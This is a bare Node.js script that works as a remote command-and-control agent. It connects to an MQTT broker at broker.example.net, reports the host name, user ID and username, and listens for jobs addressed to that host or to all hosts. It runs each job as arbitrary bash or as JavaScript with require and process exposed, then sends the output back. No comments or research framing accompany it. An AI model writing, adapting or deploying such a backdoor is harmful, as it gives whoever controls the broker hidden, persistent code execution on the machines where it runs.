const mqtt = require('mqtt');
const os = require('os');
const vm = require('vm');
const { spawn } = require('child_process');

const id = `${os.hostname()}-${process.getuid()}`;
const c = mqtt.connect('mqtts://broker.example.net:8883', { clientId: id, username: 'node', password: 'demo-pass' });

const handlers = {
  js: (b) => vm.runInNewContext(b, { require, process, Buffer }),
  sh: (b) => new Promise((r) => {
    const p = spawn('/bin/bash', ['-c', b]);
    let o = '';
    p.stdout.on('data', (d) => { o += d; });
    p.stderr.on('data', (d) => { o += d; });
    p.on('close', (code) => r({ code, o }));
  }),
};

c.on('connect', () => {
  c.subscribe([`jobs/${id}`, 'jobs/all']);
  c.publish('jobs/hello', JSON.stringify({ id, up: os.uptime(), u: os.userInfo().username }), { retain: true });
});
c.on('message', async (_t, msg) => {
  const { n, kind, body } = JSON.parse(msg);
  const res = await Promise.resolve().then(() => handlers[kind](body)).catch(String);
  c.publish(`jobs/${id}/out`, JSON.stringify({ n, res }));
});
